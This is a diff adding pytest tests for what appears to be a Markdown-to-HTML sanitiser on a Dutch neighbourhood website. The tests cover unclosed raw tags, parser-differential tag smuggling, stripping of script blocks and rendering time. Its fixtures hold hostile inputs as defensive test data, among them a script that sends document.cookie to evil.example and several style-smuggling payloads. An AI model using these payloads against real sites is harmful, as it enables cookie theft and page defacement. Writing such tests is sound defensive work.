@@ -153,7 +153,101 @@ def test_an_empty_body_gives_empty_html(markdown):
     assert body_html(markdown) == ""
 
 
+# --- issue 11: raw HTML that hid the rest of a body, links that left the site, tracking pixels
+
 REL = "nofollow noopener noreferrer ugc"
+BEFORE = "De bewonersavond in **De Boog** was druk bezocht."
+AFTER = "Volgende keer bespreken we de *speeltuin* aan de Kastanjelaan."
+
+
+def around(bad: str) -> str:
+    """A realistic body: a paragraph, the bad element on its own line, more Markdown after it."""
+    return f"{BEFORE}\n\n{bad}\n\n{AFTER}\n\n## Aanmelden\n\nMail naar de buurtcoördinator."
+
+
+def assert_all_text_survives(html: str) -> None:
+    assert "<strong>De Boog</strong>" in html
+    assert "Volgende keer bespreken we de <em>speeltuin</em> aan de Kastanjelaan." in html
+    assert "<h2>Aanmelden</h2>" in html and "Mail naar de buurtcoördinator." in html
+
+
+def test_an_unclosed_style_hides_only_itself_not_the_rest_of_the_article():
+    html = body_html(around("<style>"))
+    assert_all_text_survives(html)
+    assert "style" not in html
+
+
+@pytest.mark.parametrize(
+    "bad",
+    [
+        "<script>", "<style>", "<iframe src=\"https://video.example/x\">", "<object data=\"x.swf\">",
+        "<svg>", "<math>", "<template>", "<textarea>", "<title>", "<noscript>", "<xmp>", "<noembed>",
+        "<noframes>", "<plaintext>", "<select>", "<embed src=\"x\">",
+        "<!-- nog uitwerken", "<![CDATA[", "<?php", "<!DOCTYPE html",
+        # case, whitespace and attributes do not make a tag more dangerous
+        "<STYLE>", "<sTyLe type=\"text/css\">", "<style\n  media=\"screen\">", "<style\tmedia=\"a>b\">",
+        "<style/>", "<Script src=\"https://evil.example/x.js\">", "<svg><style>", "<math><mi>x",
+        "<div><style>", "<p><textarea>",
+    ],
+)  # fmt: skip
+def test_an_unclosed_foreign_element_on_its_own_line_hides_nothing_after_it(bad):
+    assert_all_text_survives(body_html(around(bad)))
+
+
+@pytest.mark.parametrize("bad", ["<style>", "<SCRIPT>", "<textarea>", "<title>", "<svg>", "<iframe>", "<xmp>"])
+def test_an_unclosed_foreign_element_inside_a_paragraph_hides_nothing_after_it(bad):
+    html = body_html(around(f"Zie ook {bad} de notulen."))
+    assert "Zie ook  de notulen." in html
+    assert_all_text_survives(html)
+
+
+@pytest.mark.parametrize(
+    "closed",
+    [
+        "<style>\nbody { display: none }\n</style>",
+        "<script>\nfetch('https://evil.example/?c=' + document.cookie)\n</script>",
+        "<svg><text>fetch('https://evil.example')</text></svg>",
+        "<template><p>fetch('https://evil.example')</p></template>",
+    ],
+)
+def test_a_closed_script_style_svg_or_template_goes_with_its_content_and_nothing_else(closed):
+    html = body_html(around(closed))
+    assert_all_text_survives(html)
+    assert "display" not in html and "evil.example" not in html
+
+
+@pytest.mark.parametrize(
+    "markdown",
+    [
+        # markdown-it counts a no-break space or \v as whitespace in a tag, html5ever does not: to
+        # html5ever these are an unknown tag ending at the first ">" and then a real <style>
+        'Zie <a\xa0title="x><style>">de notulen</a>.',
+        'Zie <a\x0btitle="x><style>">de notulen</a>.',
+        '<div\xa0title="x><style>">\nde notulen',
+        # a quote html5ever would read as opening an attribute value that never closes
+        '<a\x0bp="/ q=" r>de notulen</a>',
+        # html5ever ends a comment at "--!>", markdown-it does not
+        "Zie <!-- oud --!> <style> --> de notulen.",
+        # an attribute value is no tag
+        'Zie <a href="/notulen" title="<style>">de notulen</a>.',
+        # a quote left open in a raw tag
+        '<div title="x\n\nde notulen',
+    ],
+)
+def test_raw_html_cannot_smuggle_a_swallowing_tag_past_the_neutraliser(markdown):
+    html = body_html(f"{BEFORE}\n\n{markdown}\n\n{AFTER}\n\n## Aanmelden\n\nMail naar de buurtcoördinator.")
+    assert "de notulen" in html
+    assert_all_text_survives(html)
+    assert "<style" not in html
+
+
+def test_allowed_raw_html_still_works():
+    html = body_html("<table>\n  <tr>\n    <td align=\"right\">12</td>\n  </tr>\n</table>\n\nNa de tabel.")
+    assert tags("<table>\n  <tr>\n    <td>12</td>\n  </tr>\n</table>") == ["table", "tbody", "tr", "td"]
+    assert '<td align="right">12</td>' in html and "<p>Na de tabel.</p>" in html
+    assert body_html("Een <strong>vette</strong> en <em>schuine</em> tekst, 3 &lt; 4 &amp; 5 > 2.") == (
+        "<p>Een <strong>vette</strong> en <em>schuine</em> tekst, 3 &lt; 4 &amp; 5 &gt; 2.</p>"
+    )
 
 
 @pytest.mark.parametrize(
@@ -210,3 +304,14 @@ def test_links_that_leave_the_site_by_a_trick_lose_their_href_but_keep_their_tex
 )
 def test_links_to_the_web_mail_and_this_site_keep_their_href(markdown, href):
     assert elements(markdown) == [("p", {}), ("a", {"href": href, "rel": REL})]
+
+
+@pytest.mark.timeout(10)
+@pytest.mark.parametrize(
+    "body", ["<script>\n" * 11_000, "<style>" * 14_000, "<div>\n" + "<!--" * 24_000, "> <pre>\n" * 11_000]
+)
+def test_a_body_of_the_maximum_size_full_of_unclosed_tags_renders_in_time(body):
+    # a fraction of a second when every step is linear; minutes if each unclosed opener scanned the
+    # rest of the body (markdown-it's HTML block rule would, once per line, without _never_closed)
+    assert len(body) <= 100_000
+    assert "script" not in body_html(body) and "style" not in body_html(body)
